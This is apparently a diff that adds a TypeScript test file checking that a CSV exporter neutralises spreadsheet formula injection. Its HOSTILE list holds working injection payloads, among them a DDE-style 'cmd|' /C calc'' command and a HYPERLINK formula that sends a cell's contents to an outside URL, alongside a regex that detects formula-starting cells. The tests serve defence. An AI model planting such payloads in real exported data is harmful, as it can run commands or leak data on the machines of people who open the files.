@@ -1,0 +1,79 @@
+import { expect, test } from "bun:test"
+import fc from "fast-check"
+import { csvRecord, defused } from "../../src/pages/csv.ts"
+import { readCsv } from "./read-csv.ts"
+
+/** What somebody may call an app, or write into a review, to have a spreadsheet run it. */
+const HOSTILE = [
+  "=1+1",
+  "+1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1,2)",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  '=HYPERLINK("https://example.com/?x="&A1,"click")',
+  '"=1+1"',
+  " \u200b=1+1",
+  "＝1+1",
+  'fine;=cmd|"/C calc"!A0\n@x\t+y',
+] as const
+
+/** Where a spreadsheet may begin a cell: at the start, and wherever it takes a character for a separator. */
+function formulas(text: string): string[] {
+  return text.split(/[;\t\r\n]/).filter((cell) => /^[\s"\u200b\u00ad]*[=+\-@＝＋－＠]/u.test(cell))
+}
+
+test("twelve hostile texts are no formula wherever a spreadsheet begins a cell, and lose nothing but an apostrophe", () => {
+  expect(HOSTILE).toHaveLength(12)
+  const written = HOSTILE.map((text) => csvRecord(["first", text, 7])).join("")
+  const read = readCsv(written)
+  expect(read).toHaveLength(12)
+  for (const [at, text] of HOSTILE.entries()) {
+    const [first, cell, last] = read[at] as [string, string, string]
+    expect([first, last]).toEqual(["first", "7"])
+    expect(cell.startsWith("'") || !formulas(text).includes(text.split(/[;\t\r\n]/)[0] as string)).toBe(true)
+    expect([text, formulas(cell)]).toEqual([text, []])
+    expect(cell.replaceAll("'", "")).toBe(text.replaceAll("'", ""))
+  }
+})
+
+test("no text of signs, blanks, quotes and separators is a formula, and none gets more than apostrophes", () => {
+  const unit = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", ";", ",", '"', "'", " ", "a", "1", "\u200b", "＝")
+  fc.assert(
+    fc.property(fc.string({ unit, maxLength: 12 }), (text) => {
+      const cell = defused(text)
+      expect(formulas(cell)).toEqual([])
+      expect(/^[\t\r\n]/.test(cell)).toBe(false)
+      expect(cell.replaceAll("'", "")).toBe(text.replaceAll("'", ""))
+      expect(readCsv(csvRecord([text, null, text]))).toEqual([[cell, "", cell]])
+    }),
+    { seed: 20_251_122, numRuns: 3_000 },
+  )
+})
+
+test("what is no formula stands as it is: texts, numbers, booleans, and nothing for null", () => {
+  const plain = [
+    "tea",
+    "a=b",
+    "5 - 3",
+    "it's",
+    "“quoted”",
+    "日本語, 茶",
+    'say "hi"',
+    " padded ",
+    "line\r\nbreak",
+    "me@example.com",
+    "",
+  ]
+  expect(readCsv(csvRecord(plain))).toEqual([plain])
+  expect(csvRecord([-1.5, 0, true, false, null, "x"])).toBe("-1.5,0,true,false,,x\r\n")
+})
+
+test("ten thousand line breaks or quotes take no longer than they are", () => {
+  for (const text of ["\n".repeat(10_000), '"'.repeat(10_000), ";\n ".repeat(10_000)]) {
+    const began = performance.now()
+    defused(text)
+    expect(performance.now() - began).toBeLessThan(200)
+  }
+})
